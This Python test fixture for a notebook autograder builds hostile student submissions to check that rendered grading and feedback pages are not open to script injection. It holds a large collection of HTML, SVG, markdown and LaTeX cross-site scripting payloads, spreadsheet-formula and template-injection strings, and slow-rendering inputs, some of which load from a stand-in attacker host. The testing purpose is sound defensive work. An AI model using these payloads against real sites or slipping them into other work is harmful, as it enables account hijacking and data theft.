"""A notebook that tries to run scripts, and to call home, in the browser of whoever looks at it.

Each script calls ``hit()``; each address is on the host ``evil.example``.
"""

from __future__ import annotations

import json
import shutil
import subprocess
import sys
from pathlib import Path
from typing import Any

from autograder.course import Course
from tests.notebooks import code_cell, solved_with

SHORT = "a03"
ASSIGNMENT = "a03_hidden_layer_gradients"
STUDENT = """<img src=x onerror=hit()>"'`=cmd{{7*7}}"""  # refused as an id, shown in pages
HOME = "http://evil.example"

HTML = (
    "<script>hit()</script>",
    f"<script src='{HOME}/a.js'></script>",
    "<img src=x onerror=hit()>",
    f"<img src='{HOME}/pixel.png'>",
    "<svg onload=hit()></svg>",
    "<svg><script>hit()</script></svg>",
    "<svg><a xlink:href='javascript:hit()'><text y=20>click</text></a></svg>",
    "<svg><animate onbegin=hit() attributeName=x dur=1s></svg>",
    "<iframe src='javascript:parent.hit()'></iframe>",
    "<iframe srcdoc='<script>parent.hit()</script>'></iframe>",
    f"<iframe src='{HOME}/frame'></iframe>",
    "<a href='javascript:hit()'>click</a>",
    "<a href=' &#106;ava&#x0A;script&colon;hit()'>click</a>",
    "<p onmouseover=hit() style='position:fixed;inset:0'>hover</p>",
    "<details open ontoggle=hit()>x</details>",
    "<input autofocus onfocus=hit()>",
    "<body onload=hit()>",
    "<math><mtext><table><mglyph><style><img src=x onerror=hit()>",
    "<noscript><p title='</noscript><img src=x onerror=hit()>'>",
    "<object data='data:text/html,<script>hit()</script>'></object>",
    f"<embed src='{HOME}/e.swf'><link rel=stylesheet href='{HOME}/s.css'>",
    f"<style>@import '{HOME}/i.css'; body {{ background: url({HOME}/b.png) }}</style>",
    f"<p style='background:url({HOME}/p.png)'>x</p>",
    f"<meta http-equiv=refresh content='0;url={HOME}/m'><base href='{HOME}/'>",
    f"<form action='{HOME}/f'><button autofocus formaction='javascript:hit()'>go</button></form>",
    f"<video src='{HOME}/v'><source onerror=hit()></video><audio src=x onerror=hit()>",
    "<!--><script>hit()</script>-->",
    "<![CDATA[><script>hit()</script>]]>",
    "<x/onclick=hit()>y</x><a/onclick=hit()//>z</a>",
    "</div></div></div></pre></body><script>hit()</script>",
    "<template><script>hit()</script></template><xmp><p title='</xmp><script>hit()</script>'>",
    "{{ self.__init__.__globals__ }}{% raw %}<script>hit()</script>",
)
MARKDOWN = (
    "[click](javascript:hit())",
    "[click](<javascript:hit()>)",
    "[click](java&#115;cript:hit())",
    "[click](JaVaScRiPt&colon;hit())",
    "[click][r]\n\n[r]: javascript:hit()",
    "[click](data:text/html,<script>hit()</script>)",
    "[click](vbscript:hit())",
    "[click](evil.html)",
    "<javascript:hit()>",
    f"![pixel]({HOME}/pixel.png)",
    f"![pixel][p]\n\n[p]: {HOME}/pixel.png",
    "![a](attachment:a.svg) ![b](attachment:missing.png)",
    '![x](x"onerror="hit())',
    '[x](http://e.example/"onmouseover="hit())',
    "```mermaid\ngraph TD; A[<img src=x onerror=hit()>]\n```",
    "```<img src=x onerror=hit()>\ncode\n```",
    "$\\href{javascript:hit()}{click}$ $<img src=x onerror=hit()>$",
    "$\\let\\y=\\href1 \\y{javascript:hit()}{click}$ $\\href1{javascript:hit()}{click}$",
    "&#36;&#92;hr&#101;f{javascript:hit()}{click}&#36; ",
    "$$\\text{<img src=x onerror=hit()>}$$ \\begin{a}<script>hit()</script>\\end{a}",
    "`<script>hit()</script>` and ``` <script>hit()</script> ```",
    "| <img src=x onerror=hit()> | b |\n|---|---|\n| <script>hit()</script> | c |",
    '# <img src=x onerror=hit()>\n\n## a03-forward" onclick="hit()',
    "> <script>hit()</script>\n\n- <script>hit()</script>\n\n    <script>hit()</script>",
)
SLOW = (
    "\\\\(",
    "\\\\[",
    "\\begin{a}",
    "$a",
)  # renderers search each one's end through all the rest
OUTPUTS = """
import warnings
from IPython.display import HTML, SVG, IFrame, Javascript, Latex, Markdown, display
for text in %r:
    display(HTML(text), Markdown(text), Latex(text))
    display(SVG("<svg xmlns='http://www.w3.org/2000/svg'>" + text + "</svg>"))
    isolated = {"text/html": {"isolated": True}}
    display({"text/html": text, "text/plain": text}, raw=True, metadata=isolated)
    display({"image/png": 'x" onerror="hit()', "application/javascript": "hit()"}, raw=True)
    display({"application/vnd.jupyter.widget-view+json": {"model_id": text}}, raw=True)
    print(text)
    warnings.warn(text)
display(Javascript("hit()"), IFrame("javascript:parent.hit()", 10, 10))
class Shown:
    def _repr_html_(self): return "<script>hit()</script>"
    def __repr__(self): return "<script>hit()</script>"
Shown()
"""
RAISES = """
def rel_error(a, b):
    raise type("<img src=x onerror=hit()>", (Exception,), {})("<script>hit()</script>")
"""
LINE = """
def dphi(h):
    return h.missing + "<img src=x onerror=hit()>[c](javascript:hit())"
"""


def hostile_notebook(course: Course) -> dict[str, Any]:
    """The solved notebook with every trick in its text cells, its outputs and its metadata."""
    answers = {f"{SHORT}.rel_error": RAISES, f"{SHORT}.dphi": LINE}
    document: dict[str, Any] = solved_with(course, SHORT, answers)["document"]
    for number, text in enumerate((*HTML, *MARKDOWN)):
        for kind in ("markdown", "raw"):
            cell = {"cell_type": kind, "id": f'"><script>hit()</script>{number}', "source": text}
            cell["metadata"] = {"raw_mimetype": "text/html", "tags": [text], "alt": text}
            cell["attachments"] = {"a.svg": {"image/svg+xml": "PHN2ZyBvbmxvYWQ9aGl0KCk+"}}
            document["cells"].append(cell)
    for part in range(0, len(HTML), 8):
        document["cells"].append(code_cell(OUTPUTS % (HTML[part : part + 8],), f"o{part}"))
    document["cells"].append(code_cell("raise ValueError('<script>hit()</script>')", "r"))
    for cell in document["cells"]:
        if "question" in json.dumps(cell["metadata"]):
            cell["source"] = "\n\n".join((*HTML, *MARKDOWN))
    document["metadata"] = {"kernelspec": {"name": HTML[0], "display_name": HTML[2]},
                            "title": HTML[0], "widgets": {"x": HTML[0]}}  # fmt: skip
    return document


def hostile_class(course: Course, root: Path) -> Course:
    """A class of an honest student, hostile ones, and one whose notebook cannot be read."""
    shutil.copy(course.root / "nbgrader_config.py", root)
    shutil.copytree(course.root / "source" / ASSIGNMENT, root / "source" / ASSIGNMENT)
    solved = solved_with(course, SHORT, {})["document"]
    files = {
        "honest": (f"{ASSIGNMENT}.ipynb", json.dumps(solved)),
        "=cmd()": (f"{ASSIGNMENT}.ipynb", json.dumps(solved)),
        "hostile": (f"{ASSIGNMENT}.ipynb", json.dumps(hostile_notebook(course))),
        "unreadable": ("<img src=x onerror=hit()>[c](javascript:hit()).ipynb", "<script>{"),
        "<img src=x onerror=hit()>": (f"{ASSIGNMENT}.ipynb", json.dumps(solved)),
    }
    for student, (name, text) in files.items():
        folder = root / "submitted" / student / ASSIGNMENT
        folder.mkdir(parents=True)
        (folder / name).write_text(text, encoding="utf-8")
        (folder / "evil.html").write_text("<script>hit()</script>", encoding="utf-8")
    for arguments in (["build"], ["grade", SHORT], ["feedback", SHORT]):
        run(root, "gradmark", *arguments)
    return Course(root)


def run(root: Path, program: str, *arguments: str) -> str:
    """Run a command in the class's folder; a class with ungradable notebooks exits with 1."""
    command = [str(Path(sys.executable).with_name(program)), *arguments]
    done = subprocess.run(command, cwd=root, capture_output=True, text=True, check=False)
    assert done.returncode == 0 or (done.returncode, arguments[0]) == (1, "grade"), done.stderr
    return done.stdout
